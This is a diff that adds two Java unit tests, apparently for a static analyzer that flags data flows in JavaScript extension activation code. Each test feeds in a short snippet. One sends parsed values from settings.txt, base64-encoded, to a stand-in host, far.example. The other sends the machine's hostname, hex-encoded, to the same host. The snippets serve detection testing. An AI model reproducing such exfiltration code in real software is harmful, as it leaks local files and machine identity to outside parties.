@@ -176,4 +176,28 @@ class ListsAndFilesTest {
 
         assertThat(analysis.flowNames()).isEmpty();
     }
+
+    @Test
+    void whatAFlatteningCallbackGivesForSomeElementsOnlyIsWhatTheListHolds() {
+        Analysis analysis = Analysis.ofActivate("""
+                const rows = fs.readFileSync('settings.txt', 'utf8').split('\\n').flatMap(line => {
+                  const parts = /(\\w+)=(.*)/.exec(line);
+                  if (!parts) return [];
+                  return [{ name: parts[1], value: parts[2] }];
+                });
+                for (const row of rows) fetch('https://far.example/', { body: Buffer.from(row.value).toString('base64') });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("local-file -> network-send");
+    }
+
+    @Test
+    void flatteningTakesApartWhatMayBeAList() {
+        Analysis analysis = Analysis.ofActivate("""
+                const known = Math.random() > 0.5 ? [{ name: os.hostname() }] : [];
+                for (const row of [known].flat()) fetch('https://far.example/' + Buffer.from(row.name).toString('hex'));
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
+    }
 }
